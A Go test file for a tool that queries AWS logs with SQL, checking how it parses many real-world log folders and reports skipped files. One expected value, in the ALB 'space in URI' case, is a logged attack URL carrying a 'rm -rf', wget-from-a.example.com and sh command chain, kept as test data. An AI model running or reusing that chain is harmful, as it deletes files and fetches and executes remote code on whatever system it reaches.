package main

import (
	"bytes"
	"encoding/binary"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"github.com/sillok/sillok/internal/kit/material"
)

// input is a folder of logs as they come in practice, what to ask of it, and what
// is right.
type input struct {
	folder string
	ask    string // empty: the listing
	want   string // the rows of the answer, as CSV, with | between them
	says   string // what standard error has, too
}

const (
	howMany   = "SELECT count(*) FROM cloudtrail"
	trailDay  = "SELECT count(*), count(DISTINCT eventid), min(eventname), min(account), min(region), CAST(min(date) AS varchar) FROM cloudtrail"
	flowTotal = "SELECT count(*), sum(bytes), count_if(action = 'REJECT'), min(account), min(region), CAST(min(date) AS varchar) FROM vpc_flow"
)

// inputs has every folder of the material: those that were wrong once, and those
// that were right and must stay so.
var inputs = []input{
	{folder: "alb-escaped-quote-ua", ask: "SELECT user_agent, elb_status_code FROM alb ORDER BY 1", want: `"a \""b\"" c",200|curl/8,200`},
	{folder: "alb-firehose-json", says: "1 object is in no table:\n"},
	{folder: "alb-health-and-test", ask: "SELECT count(*), min(request_verb) FROM alb", want: "1,GET", says: "2 files were left out: 1 of a form or a version that is not read, 1 no logs but AWS's own files"},
	{folder: "alb-malformed-requests", ask: "SELECT count(*), count(unparsed), count_if(elb_status_code >= 400) FROM alb", want: "12,0,3"},
	{folder: "alb-space-in-uri", ask: "SELECT request_url, classification_reason FROM alb", want: "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.example.com/jaws;sh+/tmp/jaws,SpaceInUri"},
	{folder: "alb-target-list-two", ask: "SELECT target_port_list, target_status_code_list FROM alb", want: "10.0.1.11:8080 10.0.1.12:8080,500 200"},
	{folder: "alb-three-files-one-skipped", ask: "SELECT elb_status_code, count(*) FROM alb GROUP BY 1 ORDER BY 1", want: "200,3|502,1"},
	{folder: "alb-two-lbs-one-folder", ask: "SELECT (SELECT count(*) FROM alb), (SELECT count(*) FROM nlb), (SELECT count(*) FROM clb), (SELECT count(*) FROM alb_connection), (SELECT min(alpn_client_preference_list) FROM nlb WHERE domain_name <> '-')", want: `1,2,2,1,"""h2"",""http/1.1"""`},
	{folder: "alb-two-targets-and-future", ask: "SELECT count(*), count(unparsed), min(conn_trace_id) FROM alb", want: "3,0,TID_1"},
	{folder: "clb-tcp-listener", ask: "SELECT request_verb, request_url, request_proto FROM clb ORDER BY received_bytes DESC", want: "-,-,- |GET,http://www.example.com:80/,HTTP/1.1"},
	{folder: "cloudfront-standard", ask: "SELECT log_date, time, c_ip, sc_status, sc_bytes, cs_host, cs_user_agent, CAST(date AS varchar) FROM cloudfront", want: "2024-05-01,01:00:01,203.0.113.202,304,2390282,d111111abcdef8.cloudfront.net,Mozilla/4.0%20(compatible;%20MSIE%207.0),2024-05-01"},
	{folder: "config-snapshot", ask: "SELECT resourcetype, account, region, CAST(date AS varchar) FROM config", want: "AWS::EC2::Instance,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-bom", ask: trailDay, want: "2,2,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-bz2", ask: trailDay, want: "2,2,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-control-tower", ask: trailDay, want: "1,1,DescribeInstances,111122223333,ap-northeast-2,2024-05-01"},
	{folder: "ct-cwl-export", ask: trailDay, want: "2,2,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-double-gz", ask: trailDay, want: "2,2,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-duplicate-delivery", ask: trailDay, want: "3,2,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-empty", ask: howMany, want: "1", says: "1 file was left out: 1 empty"},
	{folder: "ct-event-history-csv", ask: "SELECT eventid, eventname, eventtime, useridentity.username, useridentity.accesskeyid, sourceipaddress, region, CAST(date AS varchar) FROM cloudtrail", want: "e-1,DescribeInstances,2024-05-01T01:02:03Z,alice,AKIAEXAMPLE,203.0.113.5,us-east-1,2024-05-01"},
	{folder: "ct-event-history-json", ask: "SELECT count(*) FROM cloudtrail WHERE date = DATE '2024-05-01' AND account = '111122223333' AND region IS NOT NULL", want: "2"},
	{folder: "ct-evidence-by-date", ask: "SELECT count(*) FROM cloudtrail WHERE date = DATE '2024-05-01'", want: "2"},
	{folder: "ct-firehose-concatenated", ask: trailDay, want: "2,2,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-govcloud", ask: trailDay, want: "1,1,DescribeInstances,111122223333,us-gov-west-1,2024-05-01"},
	{folder: "ct-gz-named-json", ask: trailDay, want: "2,2,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-gz-trailing-garbage", ask: howMany, want: "2", says: "bytes follow the end of the compressed data"},
	{folder: "ct-huge-single-line", ask: "SELECT count(*), count(unparsed) FROM cloudtrail", want: "20000,0"},
	{folder: "ct-insight", ask: "SELECT eventid, eventcategory, json_extract_scalar(insightdetails, '$.insightType') FROM cloudtrail", want: "i-1,Insight,ApiCallRateInsight"},
	{folder: "ct-insight-renamed", ask: "SELECT eventid, eventcategory, json_extract_scalar(insightdetails, '$.insightType') FROM cloudtrail ORDER BY 1 DESC", want: "i-1,Insight,ApiCallRateInsight|e-1,Management,"},
	{folder: "ct-jq-pretty", ask: trailDay, want: "2,2,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-lake-query-export", ask: "SELECT eventid, eventname, eventtime, CAST(date AS varchar) FROM cloudtrail", want: "e-1,DescribeInstances,2024-05-01T01:02:03Z,2024-05-01", says: "1 file was left out: 1 no logs but AWS's own files"},
	{folder: "ct-late-midnight", ask: "SELECT eventid, eventtime, CAST(date AS varchar) FROM cloudtrail ORDER BY 1 LIMIT 1", want: "e-1,2024-05-01T23:58:00Z,2024-05-02"},
	{folder: "ct-lookup-events", ask: "SELECT eventid, eventname, useridentity.username, awsregion, CAST(date AS varchar) FROM cloudtrail", want: "e-1,DescribeInstances,alice,us-east-1,2024-05-01"},
	{folder: "ct-missing-comma", ask: "SELECT count(*) FROM cloudtrail WHERE eventid IS NOT NULL", want: "4", says: "1 line or record of 1 object did not parse:\n  ct-missing-comma/trail.json: 1, the first: line 54:"},
	{folder: "ct-networkactivity-folder", ask: "SELECT count(*), min(eventcategory) FROM cloudtrail", want: "1,NetworkActivity"},
	{folder: "ct-not-gz-named-gz", ask: trailDay, want: "2,2,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-null-params", ask: "SELECT eventname, errorcode, requestparameters IS NULL FROM cloudtrail", want: "StartSession,AccessDenied,true"},
	{folder: "ct-org-trail", ask: howMany, want: "8", says: "1 file was left out: 1 no logs but AWS's own files"},
	{folder: "ct-pretty-crlf", ask: trailDay, want: "2,2,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-snappy-raw", ask: trailDay, want: "2,2,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-string-requestparameters", ask: "SELECT requestparameters, responseelements FROM cloudtrail WHERE eventid = 'e-1'", want: "HIDDEN_DUE_TO_SECURITY_REASONS,null"},
	{folder: "ct-tar-gz", ask: trailDay, want: "1,1,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-terminal-escapes", ask: "SELECT count(*), count(unparsed) FROM cloudtrail", want: "3,0"},
	{folder: "ct-truncated-gz", ask: "SELECT count(*), count(unparsed) FROM cloudtrail", want: "202,1", says: "compressed data is cut off"},
	{folder: "ct-zip", ask: trailDay, want: "1,1,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-zip-aws-name", ask: trailDay, want: "1,1,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "ct-zstd", ask: trailDay, want: "2,2,DescribeInstances,111122223333,us-east-1,2024-05-01"},
	{folder: "flow-alphabetical-skipdata", ask: `SELECT srcaddr, dstport, bytes, action, log_status, "end" FROM vpc_flow ORDER BY log_status`, want: "198.51.100.7,23,40,REJECT,OK,1700185060|-,,,-,SKIPDATA,1700185000"},
	{folder: "flow-bom", ask: flowTotal, want: "1,840,0,111122223333,,2024-05-01"},
	{folder: "flow-bom-aws-name", ask: flowTotal, want: "1,840,0,111122223333,us-east-1,2024-05-01"},
	{folder: "flow-crlf", ask: flowTotal, want: "1,840,0,111122223333,us-east-1,2024-05-01"},
	{folder: "flow-custom-14-fields", ask: "SELECT count(*), sum(bytes), count_if(action = 'REJECT'), count(srcaddr), count(dstaddr), min(pkt_srcaddr) FROM vpc_flow", want: "2,1540,1,0,0,10.0.1.5"},
	{folder: "flow-cwl-export", ask: flowTotal, want: "2,1680,1,111122223333,,2024-05-01"},
	{folder: "flow-headerless-v5", says: "1 object is in no table:\n"},
	{folder: "flow-hive-hourly", ask: flowTotal, want: "1,840,0,111122223333,us-east-1,2024-05-01"},
	{folder: "flow-hourly", ask: flowTotal, want: "1,840,0,111122223333,us-east-1,2024-05-01"},
	{folder: "flow-parquet-hive", ask: "SELECT action, bytes, account, region, CAST(date AS varchar) FROM vpc_flow", want: "REJECT,840,111122223333,us-east-1,2024-05-01"},
	{folder: "flow-text-and-parquet", ask: flowTotal, want: "2,1680,1,111122223333,us-east-1,2024-05-01"},
	{folder: "flow-trailing-blank", ask: "SELECT count(*), count(unparsed) FROM vpc_flow WHERE action = 'ACCEPT'", want: "1,0"},
	{folder: "flow-transit-gateway", ask: "SELECT resource_type, tgw_id, bytes, flow_direction, log_status FROM vpc_flow", want: "TransitGateway,tgw-0123,1065,egress,OK"},
	{folder: "guardduty", ask: "SELECT type, severity, account, region, CAST(date AS varchar) FROM guardduty", want: "Recon:EC2/PortProbeUnprotectedPort,2.0,111122223333,us-east-1,2024-05-01"},
	{folder: "mixed-folder", ask: "SELECT (SELECT count(*) FROM alb), (SELECT count(*) FROM cloudtrail), (SELECT count(*) FROM vpc_flow), (SELECT count(*) FROM s3_access)", want: "1,1,1,1", says: "4 files were left out: 2 not recognised, 1 packed in a way that is not read, 1 hidden"},
	{folder: "route53-resolver", ask: "SELECT query_name, answers[1].rdata, srcids.instance, srcport, account, region, CAST(date AS varchar) FROM route53_resolver", want: "example.com.,203.0.113.1,i-1,5555,111122223333,us-east-1,2024-05-01"},
	{folder: "s3-access-first-line", ask: "SELECT count(*), count(unparsed), max(length(referrer)) FROM s3_access", want: "4,0,39"},
	{folder: "s3-access-nonutf8", ask: "SELECT count(*), count(unparsed) FROM s3_access", want: "1,0"},
	{folder: "s3-access-quotes", ask: "SELECT count(*), count(unparsed), count_if(hostid = 'someIDstring') FROM s3_access", want: "8,0,1"},
	{folder: "symlink-file", ask: howMany, want: "1", says: "2 files were left out: 2 links that lead out"},
	{folder: "waf", ask: "SELECT action, httprequest.clientip, httprequest.headers[1].value, terminatingrulematchdetails[1].matcheddata[2], labels[1].name, account, region, CAST(date AS varchar) FROM waf", want: "BLOCK,203.0.113.1,localhost:1989,AND,value,111122223333,us-east-1,2024-05-01"},
	{folder: "한글-폴더", ask: "SELECT useridentity.username, json_extract_scalar(requestparameters, '$.key') FROM cloudtrail ORDER BY eventid LIMIT 1", want: "홍길동,보고서 최종.xlsx"},
}

func TestInputsOfPractice(t *testing.T) {
	dir := t.TempDir()
	untar := exec.CommandContext(t.Context(), "tar", "-xzf", filepath.Join(material.Dir(t), "cases", "logs.tar.gz"), "-C", dir)
	if out, err := untar.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if !slices.ContainsFunc(inputs, func(in input) bool { return in.folder == e.Name() }) {
			t.Errorf("%s: nothing says what is right", e.Name())
		}
	}
	t.Chdir(dir)
	for _, in := range inputs {
		t.Run(in.folder, func(t *testing.T) { in.check(t) })
	}
}

const (
	oneTrail  = `{"eventVersion":"1.11","eventTime":"2024-05-01T23:00:00Z","eventID":"e-1","awsRegion":"us-east-1","recipientAccountId":"111122223333","eventName":"A"}`
	nextTrail = `{"eventVersion":"1.11","eventTime":"2024-05-02T01:00:00Z","eventID":"e-2","awsRegion":"eu-west-1","recipientAccountId":"444455556666","eventName":"B"}`
	oneFlow   = "2 111122223333 eni-1 10.0.0.1 10.0.0.2 443 51000 6 10 840 1714525200 1714525260 ACCEPT OK\n"
)

// TestInputsOfTheirKinds has more of each kind of input, as files that are made
// here.
func TestInputsOfTheirKinds(t *testing.T) {
	for _, tt := range []struct {
		name  string
		files map[string]string
		input
	}{
		{
			name: "a download of two days: each record tells its own", files: map[string]string{"event_history.json": `{"Records":[` + oneTrail + "," + nextTrail + `]}`},
			input: input{ask: "SELECT eventid, account, region FROM cloudtrail WHERE date = DATE '2024-05-02'", want: "e-2,444455556666,eu-west-1"},
		},
		{
			name: "records that tell and keys that tell, in one table", files: map[string]string{
				"history.json": oneTrail,
				"AWSLogs/111122223333/CloudTrail/us-east-1/2024/05/02/111122223333_CloudTrail_us-east-1_20240502T0005Z_a.json": nextTrail,
			},
			input: input{ask: "SELECT eventid, region, CAST(date AS varchar) FROM cloudtrail WHERE account = '111122223333' ORDER BY 1", want: "e-1,us-east-1,2024-05-01|e-2,us-east-1,2024-05-02"},
		},
		{
			name: "folders as Hive names them", files: map[string]string{"logs/account=999988887777/region=eu-west-1/dt=2023-01-02/x.json": oneTrail},
			input: input{ask: "SELECT account, region, CAST(date AS varchar) FROM cloudtrail", want: "999988887777,eu-west-1,2023-01-02"},
		},
		{
			name: "a custom flow log of five fields, one of them unknown", files: map[string]string{
				"AWSLogs/111122223333/vpcflowlogs/us-east-1/2024/05/01/111122223333_vpcflowlogs_us-east-1_fl-0_20240501T0100Z_a.log": "srcaddr dstaddr bytes mood action\n1.1.1.1 2.2.2.2 7 good ACCEPT\n",
			},
			input: input{ask: "SELECT srcaddr, bytes, mood, action, interface_id FROM vpc_flow", want: "1.1.1.1,7,good,ACCEPT,", says: "the field mood is not known; it is a column of text"},
		},
		{
			name: "a flow log in UTF-16", files: map[string]string{"flow.log": utf16Text("version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\r\n" + oneFlow)},
			input: input{ask: flowTotal, want: "1,840,0,111122223333,,2024-05-01"},
		},
		{
			name: "comments and foreign lines first", files: map[string]string{"flow.log": "# taken at noon\n\n" + oneFlow + oneFlow + "the end\n"},
			input: input{ask: "SELECT count(*), count_if(action = 'ACCEPT') FROM vpc_flow", want: "4,2", says: "2 lines or records of 1 object did not parse"},
		},
		{
			name: "a Firehose delivery of a subscription", files: map[string]string{
				"2024/05/01/01/s-1-2024-05-01-01-00-00-0a": `{"messageType":"DATA_MESSAGE","owner":"1","logEvents":[{"id":"1","message":"` + strings.TrimSpace(oneFlow) + `"},{"id":"2","message":"` + strings.TrimSpace(oneFlow) + `"}]}`,
			},
			input: input{ask: "SELECT count(*), sum(bytes) FROM vpc_flow", want: "2,1680"},
		},
		{
			name: "an event of EventBridge", files: map[string]string{"e.json": `{"version":"0","id":"i","detail-type":"T","source":"my.app","account":"111122223333","time":"2024-05-01T00:00:00Z","region":"us-east-1","resources":["r"],"detail":{"k":1}}`},
			input: input{ask: "SELECT detail_type, json_extract_scalar(detail, '$.k'), resources[1], account, region, CAST(date AS varchar) FROM eventbridge", want: "T,1,r,111122223333,us-east-1,2024-05-01"},
		},
		{
			name: "JSON lines that nobody knows", files: map[string]string{"app.jsonl": `{"level":"INFO","msg":"a","n":{"x":1}}` + "\n" + `{"level":"WARN","msg":"b","Extra":7}` + "\n"},
			input: input{ask: "SELECT level, msg, n, extra FROM json_lines ORDER BY 1", want: `INFO,a,"{""x"":1}",|WARN,b,,7`},
		},
		{
			name: "a document that quotes a line is no log", files: map[string]string{"README.md": "How to read flow logs\n\nA line is\n" + oneFlow + "and that is all.\nMore of it\nfollows here.\n", "a.json": oneTrail},
			input: input{ask: "SELECT count(*) FROM cloudtrail", want: "1", says: "1 file was left out: 1 not recognised"},
		},
		{
			name: "what is packed is named", files: map[string]string{"a.7z": "7z\xbc\xaf\x27\x1c", "b.json": oneTrail},
			input: input{ask: "SELECT count(*) FROM cloudtrail", want: "1", says: "1 file was left out: 1 packed in a way that is not read"},
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Chdir(t.TempDir())
			for name, body := range tt.files {
				path := filepath.Join("logs", filepath.FromSlash(name))
				if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			tt.folder = "logs"
			tt.check(t)
		})
	}
}

func utf16Text(text string) string {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(text)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

// TestStrict holds the exit code of a strict query, and the listing of what was
// left out.
func TestStrict(t *testing.T) {
	for _, tt := range []struct {
		name  string
		files map[string]string
		args  []string
		code  int
		out   string
	}{
		{name: "nothing left out", files: map[string]string{"a.json": oneTrail}, args: []string{"--strict", howMany}, code: exitDone, out: "_col0\n1\n"},
		{name: "a file that is not known", files: map[string]string{"a.json": oneTrail, "b.txt": "hello"}, args: []string{"--strict", howMany}, code: exitLacks, out: "_col0\n1\n"},
		{name: "files that hold no records", files: map[string]string{"a.json": oneTrail, ".hidden": "x", "empty": "", "ELBAccessLogTestFile": "x"}, args: []string{"--strict", howMany}, code: exitDone, out: "_col0\n1\n"},
		{name: "a file that is cut off", files: map[string]string{"111122223333_CloudTrail_us-east-1_20240501T0005Z_a.json.gz": "\x1f\x8b\x08\x00\x00\x00"}, args: []string{"--strict", howMany}, code: exitLacks, out: "_col0\n0\n"},
		{name: "the listing, and a file that is cut off", files: map[string]string{"a.json": oneTrail, "111122223333_CloudTrail_us-east-1_20240501T0005Z_a.json.gz": "\x1f\x8b\x08\x00\x00\x00"}, args: []string{"--skipped", "--strict"}, code: exitLacks, out: "file,reason\n"},
		{name: "the listing", files: map[string]string{"a.json": oneTrail, "b.txt": "hello", "c": ""}, args: []string{"--skipped"}, code: exitDone, out: "file,reason\nb.txt,not a log that is known\nc,empty\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			for name, body := range tt.files {
				if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			t.Chdir(dir)
			var out, rest bytes.Buffer
			e := env{
				args: append([]string{"query", "--cache", t.TempDir(), "--output", "csv"}, tt.args...), stdin: strings.NewReader(""), stdout: &out, stderr: &rest,
				lookup: func(string) (string, bool) { return "", false },
			}
			if code := run(t.Context(), e); code != tt.code {
				t.Errorf("exit code %d, want %d: %s", code, tt.code, rest.String())
			}
			if diff := cmp.Diff(tt.out, out.String()); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func (in input) check(t *testing.T) {
	t.Helper()
	var out, rest bytes.Buffer
	e := env{
		args:  []string{"query", "--cache", filepath.Join(t.TempDir(), "cache"), "--from", in.folder, "--output", "csv"},
		stdin: strings.NewReader(""), stdout: &out, stderr: &rest, lookup: func(string) (string, bool) { return "", false },
	}
	if in.ask != "" {
		e.args = append(e.args, in.ask)
	}
	code := run(t.Context(), e)
	if !strings.Contains(rest.String(), in.says) {
		t.Errorf("says %q, want %q in it", rest.String(), in.says)
	}
	if in.ask == "" {
		return
	}
	_, rows, _ := strings.Cut(out.String(), "\n")
	if diff := cmp.Diff(in.want, strings.ReplaceAll(strings.TrimSuffix(rows, "\n"), "\n", "|")); diff != "" || code != exitDone {
		t.Errorf("exit code %d (-want +got):\n%s%s", code, diff, rest.String())
	}
	if in.says == "" && strings.Contains(rest.String(), "left out") {
		t.Errorf("says that something was left out: %s", rest.String())
	}
}
